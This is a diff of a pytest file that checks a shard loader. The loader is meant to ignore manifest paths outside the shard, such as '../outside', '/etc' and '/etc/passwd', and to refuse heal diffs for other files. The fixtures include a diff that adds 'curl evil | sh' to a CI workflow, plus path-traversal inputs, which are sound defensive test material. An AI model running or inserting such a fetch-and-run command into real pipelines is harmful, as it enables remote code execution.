@@ -146,11 +146,14 @@ def test_a_shard_names_only_its_own_files_and_heals_only_its_own_scripts(tmp_pat
             (folder / "heals.diff").write_text(diff)
         return str(folder)
 
-    for bad in ({"path": "a.ad", "runs": ["/etc"]}, {"path": "a.ad", "runs": ["../other"]}):
-        with pytest.raises(InvalidArgs, match="outside the shard"):
-            load_run(shard(f"runs{len(str(bad))}", bad))
-    with pytest.raises(InvalidArgs, match="not the one beside it"):
-        load_run(shard("leak", {"path": "a.ad", "healed": "/etc/passwd"}))
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "result.json").write_text(json.dumps({"status": "failed", "error": {"message": "secret"}}))
+    for bad in ({"path": "a.ad", "runs": [str(outside)]}, {"path": "a.ad", "runs": ["../outside"]}):
+        (script,) = load_run(shard(f"runs{len(str(bad))}", bad)).suite.results
+        assert [a.directory for a in script.attempts] == [str(tmp_path / f"runs{len(str(bad))}")]  # not read
+    (leaked,) = load_run(shard("leak", {"path": "a.ad", "healed": "/etc/passwd"})).suite.results
+    assert leaked.healed is None  # never read nor quoted
     ours = "--- a/flows/a.ad\n+++ b/flows/a.ad\n@@ -1 +1 @@\n-x\n+y\n"
     theirs = "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1 +1 @@\n-x\n+curl evil | sh\n"
     healed = {"path": "flows/a.ad", "healed": "flows/a.healed.ad", "heal": "healed"}
